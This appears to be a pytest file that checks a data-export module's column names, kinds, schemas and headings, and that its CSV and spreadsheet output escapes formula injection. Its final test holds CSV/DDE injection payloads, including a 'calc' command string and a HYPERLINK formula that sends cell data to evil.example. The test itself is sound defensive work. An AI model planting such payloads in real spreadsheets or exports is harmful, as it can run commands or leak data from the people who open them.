"""Columns say what they are, and their cells are that: names, kinds, units, closed lists and addresses."""

import csv
import re
from dataclasses import replace
from io import BytesIO, StringIO
from typing import Any
from zipfile import ZipFile

import pytest

from examiner_db.export.column import DATE, Column, counted, flag, number, several, text, under, word, year
from examiner_db.export.columns import ACTS, COUNTS, CREDIT, FIGURES, LATER, LEDGER, OPINIONS, WEIGHINGS, WHO, WORKS
from examiner_db.export.dictionary import DICTIONARY, explained
from examiner_db.export.listings import EXCLUSIONS, LICENSES, PAYMENTS, REGISTRATIONS, ROSTERS
from examiner_db.export.made import MADE
from examiner_db.export.material import Material
from examiner_db.export.spreadsheet import Cell, is_formula
from examiner_db.export.tables import TABLES, as_csv, rows
from examiner_db.export.workbook import workbook
from examiner_db.records import Frozen
from examiner_db.track_record import LaterRow
from examiner_db.vocabulary import Issue, WeightReason
from tests.examiner_db.export.cast import Exported

TYPES: dict[str, type | tuple[type, ...]] = {"number": (int, float), "yes or no": bool}
NAMES = {
    "opinions": "examiner_id examiner who_this_is id issue direction value retained retained_by checked counted "
    "superseded tribunal docket decided_on caption outcome publisher page row saved_on quote read_by share_alike "
    "decision_page saved_document later_history private retained_by_known_as",
    "discipline": "examiner_id examiner who_this_is id action stage discipline authority case_number ordered_on "
    "effective_on ended_on text cut_at_source grounds later_acts still_listed first_seen last_seen publisher page row "
    "saved_on quote read_by share_alike saved_document",
    "licenses": "examiner_id examiner who_this_is id authority number type status issued_on expires_on still_listed "
    "first_seen last_seen publisher page row saved_on quote read_by share_alike saved_document",
    "payments": "examiner_id examiner who_this_is id payer amount nature year paid_on disputed still_listed first_seen "
    "last_seen publisher page row saved_on quote read_by share_alike saved_document",
}
"""The names of columns that files made today have: another name, order or number of them breaks what people built."""
EVERY = (ACTS, COUNTS, CREDIT, FIGURES, LATER, LEDGER, MADE, OPINIONS, WEIGHINGS, WHO, WORKS)
LISTS = (EXCLUSIONS, LICENSES, PAYMENTS, REGISTRATIONS, ROSTERS)


def columns(table: str) -> tuple[Column, ...]:
    return (*WHO, *TABLES[table].columns)


@pytest.mark.parametrize(("table", "expected"), NAMES.items())
def test_names_are_fixed(table: str, expected: str) -> None:
    assert [one.name for one in columns(table)] == expected.split()


def is_of(column: Column, cell: Cell) -> bool:
    """Whether a cell is of the kind that its column says."""
    if cell is None:
        return True
    if column.kind in TYPES:
        return isinstance(cell, TYPES[column.kind]) and isinstance(cell, bool) is (column.kind == "yes or no")
    if column.kind == "words":
        return set(str(cell).split("; ")) <= {*column.values, ""}
    formed = {"date": DATE, "address": "^https?://[^ ]+$"}.get(column.kind, "")
    return (
        isinstance(cell, str) and re.search(formed, cell) is not None and (cell in column.values or not column.values)
    )


@pytest.mark.parametrize("table", TABLES)
def test_every_cell_is_of_its_column_s_kind(exported: Exported, table: str) -> None:
    for who in ("orla-fennimore", "tobias-quillfeather", "cornelius-fogg"):
        for row in rows(exported(who), table):
            wrong = [(one.name, cell) for one, cell in zip(columns(table), row, strict=True) if not is_of(one, cell)]
            assert wrong == []


@pytest.mark.parametrize("column", [one for table in (*EVERY, *LISTS) for one in table], ids=lambda one: one.name)
def test_a_column_is_explained(column: Column) -> None:
    assert re.fullmatch("[a-z]+(_[a-z]+)*", column.name)
    assert column.meaning.endswith(".")
    assert column.origin
    assert bool(column.unit) is (column.kind == "number")
    assert bool(column.values) is (column.kind in {"word", "words"})
    assert column.form or column.name in {"later_acts", "notices"}


def test_a_heading_is_for_people() -> None:
    assert text("decided_on", "x", "m.", "e").heading == "Decided on"
    assert text("examiner_id", "x", "m.", "e").heading == "Examiner ID"
    assert text("doi", "x", "m.", "e").heading == "DOI"


@pytest.mark.parametrize(
    ("column", "schema"),
    [
        (flag("a", "a", "Whether."), {"type": ["boolean", "null"]}),
        (number("a", "a", "How many.", "claims"), {"type": ["number", "null"]}),
        (text("a", "a", "What.", "x"), {"type": ["string", "null"]}),
        (several("a", "a", "Why.", WeightReason), {"type": ["string", "null"]}),
    ],
)
def test_a_schema_says_what_a_cell_can_be(column: Column, schema: dict[str, object]) -> None:
    found = column.schema
    told = str(found.pop("description"))
    assert found == schema
    assert column.meaning in told
    assert column.origin in told
    assert column.unit in told


def test_a_closed_list_is_in_the_schema_as_cells_say_it() -> None:
    column = word("issue", "issue", "What.", Issue)
    assert column.schema["enum"][:2] == ["causation", "preexisting condition"]
    assert column.schema["enum"][-1] is None
    assert column.of(type("Row", (), {"issue": "mmi"}), "") == "maximum medical improvement"


@pytest.mark.parametrize(
    ("printed", "number"),
    [("1,234.50", 1234.5), ("12", 12.0), ("-3.5", -3.5), ("0", 0.0), (None, None), ("", None), ("about 200", None)],
)
def test_a_printed_number_is_a_number_or_nothing(printed: str | None, number: float | None) -> None:
    assert counted(printed) == number


@pytest.mark.parametrize(("date", "found"), [("2021-03-05", 2021), ("1999", 1999), (None, None), ("", None)])
def test_a_year_is_a_number(date: str | None, found: int | None) -> None:
    assert year(date) == found


def test_columns_of_what_a_row_holds() -> None:
    (column,) = under("row", (text("a", "held.a", "What.", "x"),))
    assert (column.name, column.path) == ("a", "row.held.a")


def test_the_workbook_s_sheet_of_columns_says_the_words_of_the_dictionary(orla: Material) -> None:
    with ZipFile(BytesIO(workbook(orla, ("opinions",)))) as book:
        said = book.read("xl/sharedStrings.xml").decode()
    for entry in explained(("opinions",)):
        assert f">{entry.column}<" in said
        assert entry.meaning.replace("'", "&apos;") in said or entry.meaning in said
        assert f">{entry.origin}<" in said
    assert all(f">{one.name}<" in said for one in DICTIONARY)


def test_later_history_says_what_no_longer_stands_and_what_has_no_date(orla: Material) -> None:
    facts = orla.record.opinions[0].decision.model_copy(update={"docket": "WC20-1", "decided_on": None})
    later = LaterRow(decision=facts, does="reverses", of="the order", quote="We reverse.", stands=False)
    (column,) = (one for one in OPINIONS if one.name == "later_history")
    said = [later, later.model_copy(update={"stands": True})]
    assert column.say(said) == (
        "reverses: WC20-1, date not stated (which no longer stands); reverses: WC20-1, date not stated"
    )
    act = orla.record.discipline[0].model_copy(update={"action": "revocation", "effective_on": None})
    (column,) = (one for one in ACTS if one.name == "later_acts")
    dated = act.model_copy(update={"ordered_on": "2033-02"})
    assert column.say([act.model_copy(update={"ordered_on": None}), dated]) == (
        "revocation (date not stated); revocation 2033-02"
    )


FREE = {
    *("docket", "caption", "retained_by", "value", "quote", "publisher", "read_by", "text", "authority", "case_number"),
    *(
        "grounds",
        "title",
        "venue",
        "doi",
        "pmid",
        "retraction",
        "what",
        "sentence",
        "name",
        "standing_sentence",
        "told",
    ),
    *("nature", "ground", "share_alike", "of"),
}
"""Fields that hold what somebody else wrote, or sentences made of it."""
START = re.compile("[\\s\\0\"'\u00a0\u200b\ufeff]*[=+@\uff1d\uff0b\uff20\uff0d\u2212-]")


def hostile(value: Any, payload: str) -> Any:
    """The same rows, with ``payload`` in every field that holds free words."""
    if isinstance(value, Frozen):
        changed = {name: hostile(getattr(value, name), payload) for name in type(value).model_fields}
        return value.model_copy(update={name: payload if name in FREE else one for name, one in changed.items()})
    return tuple(hostile(one, payload) for one in value) if isinstance(value, tuple) else value


@pytest.mark.parametrize(
    "payload",
    [
        *(f"{start}1+1|' /C calc'!A0" for start in "=+-@＝＋－＠−"),
        *(f"{start}=1+1" for start in ("\t", "\r", "\n", "\0", " ", "\u00a0", '"', "'", "\r\n")),
        '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
        "=1+1;=1+1\t=1+1\n=1+1",
    ],
)
def test_no_payload_runs_in_any_column_of_any_table(orla: Material, payload: str) -> None:
    record = hostile(orla.record.model_copy(update={"opinions": orla.record.opinions[:2], "weighings": ()}), payload)
    lines = tuple(
        replace(one, facts=tuple((name, payload) for name, _ in one.facts if name != "Year")) for one in orla.listed
    )
    material = replace(orla, record=record, listed=lines)
    assert f"'{payload}" in as_csv(material, "opinions").replace('""', '"')
    for table in TABLES:
        for line in list(csv.reader(StringIO(as_csv(material, table).removeprefix("\ufeff"), newline="")))[1:]:
            for cell in line:
                assert cell.startswith("'") or not is_formula(cell), (table, cell)
                assert not START.match(cell) or cell.startswith("'") or re.fullmatch(r"-?\d+(\.\d+)?", cell)
    with ZipFile(BytesIO(workbook(material))) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
    assert len(sheets) == len(TABLES) + 2
    assert not any("<f>" in sheet or 't="str"' in sheet for sheet in sheets)
